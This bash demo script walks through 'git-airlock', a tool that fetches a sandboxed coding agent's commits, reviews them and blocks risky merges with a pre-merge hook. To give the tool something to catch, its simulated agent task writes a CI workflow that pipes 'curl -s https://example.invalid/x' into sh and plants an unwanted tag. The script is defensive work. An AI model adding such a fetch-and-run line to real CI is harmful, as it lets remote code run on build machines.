#!/usr/bin/env bash
# The whole git-airlock loop in a throwaway repository, told in steps: a
# sandboxed agent is given a task, its commits arrive through plain git
# fetch, you look at them (status, diff, review), inspect what a merge
# would bring, the pre-merge hook stops a risky merge, the benign work is
# merged, and the sandbox is removed with its branches kept.
#
# With a real sbx on PATH it drives real Docker Sandboxes (agent: shell).
# Without one it uses the bundled simulator (internal/sbxsim), whose state
# lives in the demo's temporary directory. DEMO_BIN names another directory
# holding git-airlock (the tests run the demo with the binaries they built).
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
bin="${DEMO_BIN:-$root/.build/bin}"
[ -x "$bin/git-airlock" ] || { echo "run 'make demo' (it builds first)" >&2; exit 1; }

tmp=$(mktemp -d "${TMPDIR:-/tmp}/git-airlock-demo.XXXXXX")
export PATH="$bin:$PATH"
if command -v sbx >/dev/null 2>&1; then
  echo "demo: using the sbx on PATH ($(command -v sbx))"
else
  echo "demo: no sbx installed; using the bundled simulator"
  export PATH="$root/.build/sim:$PATH" SBXSIM_HOME="$tmp/sbxsim"
fi
cleanup() {
  if [ -n "${SBXSIM_HOME:-}" ]; then sbx rm --all --force >/dev/null 2>&1 || true; fi
  rm -rf "$tmp"
}
trap cleanup EXIT

bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then bold=$'\033[1m' plain=$'\033[0m'; fi
n=0
# chapter TITLE TEXT: the next step of the story, and why it matters.
chapter() { n=$((n + 1)); printf '\n%s%d. %s%s\n%s\n' "$bold" "$n" "$1" "$plain" "$2"; }
# step CMD...: show the command as you would type it, then run it.
step() {
  local shown=() a
  for a in "$@"; do
    case $a in
      *[!A-Za-z0-9_./:=@+-]*|'') shown+=("'${a//\'/\'\\\'\'}'") ;;
      *) shown+=("$a") ;;
    esac
  done
  printf '\n%s$ %s%s\n' "$bold" "${shown[*]}" "$plain"
  "$@"
}

# The demo's own git identity and config: nothing in your ~/.gitconfig
# (signing, hooks paths, aliases) changes what it shows.
printf '[user]\n\tname = Demo User\n\temail = demo@example.com\n[init]\n\tdefaultBranch = main\n' > "$tmp/gitconfig"
export GIT_CONFIG_GLOBAL="$tmp/gitconfig" GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_NAME="Demo User" GIT_AUTHOR_EMAIL="demo@example.com"
export GIT_COMMITTER_NAME="Demo User" GIT_COMMITTER_EMAIL="demo@example.com"
repo="$tmp/demo project"
git init -q "$repo" && git -C "$repo" symbolic-ref HEAD refs/heads/main # git 2.26 has no init -b
cd "$repo"
printf 'def greet(name):\n    return "hello " + name\n' > greet.py
git add greet.py && git commit -q -m "Add greet"

chapter "Tell agents how to work here" \
  "AGENTS.md is what the agent reads first; commit it so the sandbox's clone has it."
step git airlock init
git add AGENTS.md && git commit -q -m "Add AGENTS.md"

# The "agent" is a shell task, so the demo runs the same with real sbx.
task='git switch -q -c agent/title-case &&
printf "def greet(name):\n    return \"Hello, \" + name.title()\n" > greet.py &&
printf "from greet import greet\nassert greet(\"ada\") == \"Hello, Ada\"\n" > test_greet.py &&
git add -A && git commit -q -m "Greet with a capital and a comma" &&
git tag sneaky-tag &&
git switch -q -c agent/ci-speedup &&
mkdir -p .github/workflows &&
printf "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://example.invalid/x | sh\n" > .github/workflows/ci.yml &&
git add -A && git commit -q -m "Speed up CI" &&
git switch -q agent/title-case'
chapter "Give an agent a task in a sandbox" \
  "It works on its own clone in a microVM: a good change on agent/title-case, a risky
one on agent/ci-speedup, and a tag it tries to plant. The task, \$task (a shell script here):"
printf '%s\n' "$task" | sed 's/^/    /'
# Shown as typed, with the task by name rather than all over again.
printf '\n%s$ %s%s\n' "$bold" 'git airlock --agent shell --name demo run --no-fetch "$task"' "$plain"
git airlock --agent shell --name demo run --no-fetch "$task"

chapter "Its work arrives through plain git fetch" \
  "The sandbox is an ordinary remote, airlock-demo; its tags stay out."
step git fetch airlock-demo
step git log --oneline --graph main airlock-demo/agent/title-case

chapter "Look at it" "Which branches came back, what changed, side by side."
step git airlock status
step git airlock diff --no-fetch --stat
git config difftool.show.cmd 'diff -ru "$LOCAL" "$REMOTE"'
step git -c airlock.reviewTool=show airlock review --no-fetch || true

chapter "Inspect what a merge would bring" \
  "Changes that can run code on your machine or in CI are findings; high ones stop a merge."
step git airlock inspect --no-fetch
echo "(exit status $?: nothing risky)"
step git airlock inspect --no-fetch --branch agent/ci-speedup || echo "(exit status $?: findings)"

chapter "The hook stops a risky plain git merge" \
  "With the hooks installed, even a plain 'git merge' of the risky branch is checked."
step git airlock hooks install
step git merge --no-ff --no-edit airlock-demo/agent/ci-speedup || { echo "(the hook stopped the plain git merge)"; git merge --abort 2>/dev/null || true; }
step git airlock merge --no-fetch --branch agent/ci-speedup || echo "(git airlock merge stopped too)"

chapter "Merge the good work" "The sandbox's HEAD, agent/title-case, inspected and merged."
step git airlock merge --no-fetch
step git log --oneline -3
if [ -e .github/workflows/ci.yml ]; then
  echo "demo: FAILED: the risky CI change landed" >&2; exit 1
fi
if git rev-parse -q --verify refs/tags/sneaky-tag >/dev/null; then
  echo "demo: FAILED: the agent's tag reached the host" >&2; exit 1
fi

chapter "Remove the sandbox" \
  "rm fetches first and refuses while work would be lost; the fetched branches are kept."
step git airlock rm
step git airlock ls
echo
echo "demo: done. The agent's commits came back through git and were reviewed; its good"
echo "demo: branch was merged, its CI change was stopped, its tag stayed out, and its"
echo "demo: branches are kept under refs/airlock/removed/demo@1/."
